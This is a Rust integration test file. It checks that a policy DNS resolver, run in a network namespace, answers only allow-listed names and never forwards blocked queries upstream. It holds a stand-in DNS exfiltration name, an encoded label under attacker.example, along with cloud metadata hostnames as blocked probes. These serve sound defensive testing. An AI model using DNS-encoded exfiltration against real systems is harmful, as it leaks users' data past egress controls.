//! The policy DNS resolver, live: served inside a network namespace this test creates, at
//! `127.0.0.53:53`, and asked by real clients there (python's `getaddrinfo`, `getent`,
//! `dig`) through a `resolv.conf` that names it. A recording upstream resolver on the host's
//! loopback counts every query it gets: zero for names the policy does not allow, and zero
//! at all under `dns allow-listed-only` (EGRESS.md cases 8, 9, 10 and 11).

#![allow(
    unsafe_code,
    reason = "setns(2) moves one short-lived thread into the namespace to open the sockets"
)]

use hickory_proto::op::{Message, OpCode, ResponseCode};
use hickory_proto::rr::rdata::A;
use hickory_proto::rr::{RData, Record};
use policyc_host::egress::dns::{DnsEvent, Rcode, Resolver};
use policyc_host::egress::names::{is_synthetic, Names};
use policyc_targets::egress::Artifact;
use policyc_testkit::live::cannot_run;
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::os::fd::AsRawFd;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A network namespace with only `lo` (up), made with `ip netns add`, whose
/// `/etc/netns/<name>/` files `ip netns exec` puts over `/etc`: a `resolv.conf` naming
/// `127.0.0.53`, an `nsswitch.conf` asking files then DNS, and a `hosts` file with nothing
/// but localhost. Deleted when dropped.
struct Netns {
    name: String,
}

impl Netns {
    fn create(tag: &str) -> Result<Netns, String> {
        let name = format!("policyc-dns-{}-{tag}", std::process::id());
        let ns = Netns { name };
        let etc = ns.etc();
        std::fs::create_dir_all(&etc).map_err(|e| format!("mkdir {etc}: {e}"))?;
        for (file, text) in [
            (
                "resolv.conf",
                "nameserver 127.0.0.53\noptions timeout:2 attempts:1\n",
            ),
            ("nsswitch.conf", "hosts: files dns\n"),
            ("hosts", "127.0.0.1 localhost\n"),
        ] {
            std::fs::write(format!("{etc}/{file}"), text).map_err(|e| format!("{file}: {e}"))?;
        }
        run_ok(Command::new("ip").args(["netns", "add", &ns.name]))?;
        run_ok(
            Command::new("ip").args(["netns", "exec", &ns.name, "ip", "link", "set", "lo", "up"]),
        )?;
        Ok(ns)
    }

    fn etc(&self) -> String {
        format!("/etc/netns/{}", self.name)
    }

    /// UDP and TCP sockets bound to `127.0.0.53:53` inside the namespace.
    fn resolver_sockets(&self) -> (UdpSocket, TcpListener) {
        let path = format!("/run/netns/{}", self.name);
        std::thread::spawn(move || {
            let ns = std::fs::File::open(&path).unwrap();
            // SAFETY: setns on an open namespace file; only this thread moves.
            let rc = unsafe { libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNET) };
            assert_eq!(rc, 0, "setns: {}", std::io::Error::last_os_error());
            let udp = UdpSocket::bind("127.0.0.53:53").unwrap();
            let tcp = TcpListener::bind("127.0.0.53:53").unwrap();
            (udp, tcp)
        })
        .join()
        .unwrap()
    }

    /// Run a program inside the namespace (with its `/etc` files).
    fn run(&self, argv: &[&str]) -> Output {
        Command::new("ip")
            .args(["netns", "exec", &self.name])
            .args(argv)
            .output()
            .unwrap()
    }
}

impl Drop for Netns {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["netns", "del", &self.name])
            .output();
        let _ = std::fs::remove_dir_all(self.etc());
    }
}

fn run_ok(cmd: &mut Command) -> Result<(), String> {
    match cmd.output() {
        Ok(o) if o.status.success() => Ok(()),
        Ok(o) => Err(format!(
            "{cmd:?}: {}",
            String::from_utf8_lossy(&o.stderr).trim()
        )),
        Err(e) => Err(format!("{cmd:?}: {e}")),
    }
}

/// A recording upstream resolver on the host's loopback: counts every datagram, answers
/// A 192.0.2.1 for the names in `exists` and NXDOMAIN for the rest.
struct Recorder {
    addr: SocketAddr,
    names: Arc<Mutex<Vec<String>>>,
    count: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Recorder {
    fn start(exists: &'static [&'static str]) -> Recorder {
        let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
        socket
            .set_read_timeout(Some(Duration::from_millis(50)))
            .unwrap();
        let addr = socket.local_addr().unwrap();
        let names = Arc::new(Mutex::new(Vec::new()));
        let count = Arc::new(AtomicUsize::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (n, c, s) = (names.clone(), count.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while !s.load(Ordering::SeqCst) {
                let Ok((len, peer)) = socket.recv_from(&mut buf) else {
                    continue;
                };
                c.fetch_add(1, Ordering::SeqCst);
                let Ok(q) = Message::from_vec(&buf[..len]) else {
                    continue;
                };
                let Some(question) = q.queries.first() else {
                    continue;
                };
                let name = question.name().to_ascii().to_lowercase();
                n.lock().unwrap().push(name.clone());
                let mut a = Message::response(q.metadata.id, OpCode::Query);
                a.queries.clone_from(&q.queries);
                if exists.iter().any(|e| name == format!("{e}.")) {
                    let rd = RData::A(A(Ipv4Addr::new(192, 0, 2, 1)));
                    a.answers
                        .push(Record::from_rdata(question.name().clone(), 60, rd));
                } else {
                    a.metadata.response_code = ResponseCode::NXDomain;
                }
                let _ = socket.send_to(&a.to_vec().unwrap(), peer);
            }
        });
        Recorder {
            addr,
            names,
            count,
            stop,
            thread: Some(thread),
        }
    }

    fn queries(&self) -> usize {
        self.count.load(Ordering::SeqCst)
    }

    fn names(&self) -> Vec<String> {
        self.names.lock().unwrap().clone()
    }
}

impl Drop for Recorder {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The egress artifact of a policy allowing `api.example.com:443` and `*.cdn.example.net:443`
/// (but not `*.bad.cdn.example.net`), under DNS mode `mode`.
fn artifact(mode: &str) -> Artifact {
    let src = format!(
        "policy agent {{\n  isolation process\n  net {{\n    egress via proxy {{\n      \
         deny \"*.bad.cdn.example.net\":*\n      allow \"api.example.com\":443\n      \
         allow \"*.cdn.example.net\":443\n    }}\n    dns {mode}\n  }}\n}}\n"
    );
    let policy = policyc_testkit::stdlib::policy(&src);
    let target = policyc_targets::registry()
        .iter()
        .find(|t| t.name() == "egress")
        .unwrap();
    let emitted = target.emit(&policy, &Default::default()).unwrap();
    Artifact::parse(&emitted.artifacts[policyc_targets::egress::FILE]).unwrap()
}

/// The namespace, the resolver serving in it (forwarding to `recorder`), and its audit log.
struct Setup {
    ns: Netns,
    names: Arc<Names>,
    events: Arc<Mutex<Vec<DnsEvent>>>,
    _running: policyc_host::egress::dns::Running,
}

fn setup(tag: &str, mode: &str, recorder: &Recorder) -> Option<Setup> {
    let ns = match Netns::create(tag) {
        Ok(ns) => ns,
        Err(why) => {
            cannot_run(&format!("cannot create a network namespace: {why}"));
            return None;
        }
    };
    for tool in ["python3", "getent", "dig"] {
        if Command::new("which")
            .arg(tool)
            .output()
            .map_or(true, |o| !o.status.success())
        {
            cannot_run(&format!(
                "`{tool}` is not installed (Debian: python3, libc-bin, bind9-dnsutils)"
            ));
            return None;
        }
    }
    let names = Arc::new(Names::new(Arc::new(artifact(mode))));
    let events = Arc::new(Mutex::new(Vec::new()));
    let sink = events.clone();
    let (udp, tcp) = ns.resolver_sockets();
    let running = Resolver::new(names.clone())
        .with_upstream(recorder.addr)
        .with_audit(Arc::new(move |e: &DnsEvent| {
            sink.lock().unwrap().push(e.clone())
        }))
        .spawn(udp, tcp)
        .unwrap();
    Some(Setup {
        ns,
        names,
        events,
        _running: running,
    })
}

const GETADDRINFO: &str = r#"
import json, socket, sys
out = {}
for name in sys.argv[1:]:
    try:
        out[name] = sorted({a[4][0] for a in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)})
    except socket.gaierror as e:
        out[name] = "error %d" % e.errno
print(json.dumps(out))
"#;

/// Python's `getaddrinfo` (any family) for each name: its addresses, or `error <n>`.
fn getaddrinfo(ns: &Netns, names: &[&str]) -> serde_json::Value {
    let mut argv = vec!["python3", "-c", GETADDRINFO];
    argv.extend_from_slice(names);
    let out = ns.run(&argv);
    assert!(
        out.status.success(),
        "python3: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

/// `getent hosts NAME`: its output when it found the name, `None` when it did not.
fn getent(ns: &Netns, name: &str) -> Option<String> {
    let out = ns.run(&["getent", "hosts", name]);
    out.status
        .success()
        .then(|| String::from_utf8_lossy(&out.stdout).trim().to_string())
}

/// `dig` at the resolver: the status and the answer records.
fn dig(ns: &Netns, args: &[&str]) -> (String, Vec<String>) {
    let mut argv = vec![
        "dig",
        "@127.0.0.53",
        "+time=2",
        "+tries=1",
        "+noall",
        "+comments",
        "+answer",
    ];
    argv.extend_from_slice(args);
    let out = ns.run(&argv);
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let status = text
        .split("status: ")
        .nth(1)
        .and_then(|s| s.split(',').next())
        .unwrap_or_else(|| {
            panic!(
                "dig {args:?} printed no status:\n{text}\n{}",
                String::from_utf8_lossy(&out.stderr)
            )
        })
        .to_string();
    let answers = text
        .lines()
        .filter(|l| !l.starts_with(';') && !l.trim().is_empty())
        .map(str::to_string)
        .collect();
    (status, answers)
}

const SECRET: &str = "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiytemzu.attacker.example";

#[test]
fn allow_listed_only_answers_real_clients_from_the_policy_alone() {
    let recorder = Recorder::start(&["api.example.com", "metadata.google.internal"]);
    let Some(s) = setup("listed", "allow-listed-only", &recorder) else {
        return;
    };
    let api = s
        .names
        .address_for(&"api.example.com".parse_host())
        .unwrap();
    assert!(is_synthetic(api));

    let got = getaddrinfo(
        &s.ns,
        &[
            "api.example.com",
            "img.cdn.example.net",
            SECRET,
            "metadata.google.internal",
            "evil.api.example.com",
            "cdn.example.net",
            "x.bad.cdn.example.net",
        ],
    );
    assert_eq!(got["api.example.com"], serde_json::json!([api.to_string()]));
    let img = got["img.cdn.example.net"][0]
        .as_str()
        .unwrap()
        .parse::<Ipv4Addr>()
        .unwrap();
    assert!(is_synthetic(img) && img != api);
    assert_eq!(
        s.names.name_for(img),
        Some("img.cdn.example.net".parse_host())
    );
    // EAI_NONAME (-2): no such host, at once.
    for name in [
        SECRET,
        "metadata.google.internal",
        "evil.api.example.com",
        "cdn.example.net",
        "x.bad.cdn.example.net",
    ] {
        assert_eq!(got[name], "error -2", "{name}");
    }

    // getent asks for IPv6 first: the empty AAAA answer sends it on to A.
    let found = getent(&s.ns, "api.example.com").unwrap();
    assert_eq!(
        found.split_whitespace().collect::<Vec<_>>(),
        [api.to_string().as_str(), "api.example.com"]
    );
    assert_eq!(getent(&s.ns, SECRET), None);
    assert_eq!(getent(&s.ns, "metadata.google.internal"), None);

    assert_eq!(dig(&s.ns, &["api.example.com", "A"]).1.len(), 1);
    assert_eq!(dig(&s.ns, &["+tcp", "api.example.com", "A"]).0, "NOERROR");
    for t in [
        "TXT",
        "ANY",
        "NULL",
        "SVCB",
        "HTTPS",
        "AAAA",
        "MX",
        "TYPE65280",
    ] {
        assert_eq!(
            dig(&s.ns, &["api.example.com", t]),
            ("NOERROR".to_string(), vec![]),
            "{t}"
        );
    }
    for name in [
        SECRET,
        "localhost",
        "metadata.google.internal",
        "169.254.169.254",
        "sub.api.example.com",
    ] {
        for t in ["A", "AAAA", "TXT"] {
            assert_eq!(
                dig(&s.ns, &[name, t]),
                ("NXDOMAIN".to_string(), vec![]),
                "{name} {t}"
            );
        }
    }
    assert_eq!(
        recorder.queries(),
        0,
        "the upstream resolver was asked: {:?}",
        recorder.names()
    );

    let events = s.events.lock().unwrap();
    assert!(events
        .iter()
        .any(|e| e.name == SECRET && e.rcode == Rcode::NxDomain && !e.upstream));
    assert!(events.iter().all(|e| !e.upstream));
    assert!(events.iter().any(|e| e.name == "api.example.com"
        && e.answer == Some(api)
        && e.rule.as_deref() == Some("allow \"api.example.com\":443")));
}

#[test]
fn egress_case_09_an_exfiltrating_name_is_nxdomain_and_the_upstream_sees_no_query() {
    let recorder = Recorder::start(&["api.example.com"]);
    let Some(s) = setup("case9", "allow-listed-only", &recorder) else {
        return;
    };
    let got = getaddrinfo(&s.ns, &[SECRET, "api.example.com"]);
    assert_eq!(got[SECRET], "error -2");
    assert!(got["api.example.com"][0].as_str().is_some());
    assert_eq!(getent(&s.ns, SECRET), None);
    for t in ["A", "AAAA", "TXT", "MX"] {
        assert_eq!(dig(&s.ns, &[SECRET, t]).0, "NXDOMAIN", "{t}");
        assert_eq!(dig(&s.ns, &["+tcp", SECRET, t]).0, "NXDOMAIN", "tcp {t}");
    }
    assert_eq!(
        recorder.queries(),
        0,
        "the upstream resolver was asked: {:?}",
        recorder.names()
    );
    let events = s.events.lock().unwrap();
    assert!(events
        .iter()
        .any(|e| e.name == SECRET && e.rcode == Rcode::NxDomain && !e.upstream));
}

#[test]
fn egress_case_10_txt_any_null_svcb_and_https_queries_for_an_allowed_name_get_no_records() {
    // Under `dns any` too, where unlisted A queries may go upstream: no other type does.
    for mode in ["allow-listed-only", "any"] {
        let recorder = Recorder::start(&["api.example.com"]);
        let Some(s) = setup(&format!("case10{}", mode.len()), mode, &recorder) else {
            return;
        };
        for t in ["TXT", "ANY", "NULL", "SVCB", "HTTPS"] {
            for tcp in [false, true] {
                let mut args = vec!["api.example.com", t];
                if tcp {
                    args.insert(0, "+tcp");
                }
                assert_eq!(
                    dig(&s.ns, &args),
                    ("NOERROR".to_string(), vec![]),
                    "{mode} {args:?}"
                );
            }
        }
        assert_eq!(
            recorder.queries(),
            0,
            "{mode}: the upstream resolver was asked: {:?}",
            recorder.names()
        );
    }
}

#[test]
fn egress_case_11_a_subdomain_of_an_exactly_named_host_does_not_resolve() {
    let recorder = Recorder::start(&["api.example.com", "sub.api.example.com"]);
    let Some(s) = setup("case11", "allow-listed-only", &recorder) else {
        return;
    };
    let got = getaddrinfo(
        &s.ns,
        &[
            "sub.api.example.com",
            "a.b.api.example.com",
            "api.example.com",
        ],
    );
    assert_eq!(got["sub.api.example.com"], "error -2");
    assert_eq!(got["a.b.api.example.com"], "error -2");
    assert!(got["api.example.com"][0].as_str().is_some());
    assert_eq!(getent(&s.ns, "sub.api.example.com"), None);
    for t in ["A", "AAAA"] {
        assert_eq!(dig(&s.ns, &["sub.api.example.com", t]).0, "NXDOMAIN", "{t}");
    }
    assert_eq!(recorder.queries(), 0, "{:?}", recorder.names());
}

#[test]
fn dns_any_forwards_only_a_queries_for_unlisted_names() {
    let recorder = Recorder::start(&["api.example.com", "exists.example.org"]);
    let Some(s) = setup("any", "any", &recorder) else {
        return;
    };
    // Listed names and every non-A query are answered without asking upstream.
    let got = getaddrinfo(&s.ns, &["api.example.com"]);
    assert!(got["api.example.com"][0]
        .as_str()
        .unwrap()
        .starts_with("127.80."));
    assert_eq!(
        dig(&s.ns, &["exists.example.org", "TXT"]),
        ("NOERROR".to_string(), vec![])
    );
    assert_eq!(
        dig(&s.ns, &["exists.example.org", "AAAA"]),
        ("NOERROR".to_string(), vec![])
    );
    assert_eq!(
        recorder.queries(),
        0,
        "asked upstream: {:?}",
        recorder.names()
    );

    // An unlisted name's A query goes upstream; the sandbox gets a synthetic address.
    let got = getaddrinfo(&s.ns, &["exists.example.org", "missing.example.org"]);
    let addr = got["exists.example.org"][0]
        .as_str()
        .unwrap()
        .parse::<Ipv4Addr>()
        .unwrap();
    assert!(is_synthetic(addr), "{addr}");
    assert_eq!(
        s.names.name_for(addr),
        Some("exists.example.org".parse_host())
    );
    assert_eq!(got["missing.example.org"], "error -2");
    let asked = recorder.names();
    assert!(!asked.is_empty());
    assert!(
        asked
            .iter()
            .all(|n| n == "exists.example.org." || n == "missing.example.org."),
        "{asked:?}"
    );
}

#[test]
fn dns_none_answers_nothing() {
    let recorder = Recorder::start(&["api.example.com"]);
    let src = "none";
    let Some(s) = setup("none", src, &recorder) else {
        return;
    };
    for name in ["api.example.com", SECRET] {
        assert_eq!(
            dig(&s.ns, &[name, "A"]),
            ("REFUSED".to_string(), vec![]),
            "{name}"
        );
        assert_eq!(getent(&s.ns, name), None);
    }
    assert_eq!(recorder.queries(), 0);
}

trait ParseHost {
    fn parse_host(&self) -> policyc_compiler::hosts::Host;
}

impl ParseHost for str {
    fn parse_host(&self) -> policyc_compiler::hosts::Host {
        policyc_compiler::hosts::Host::parse(self).unwrap()
    }
}
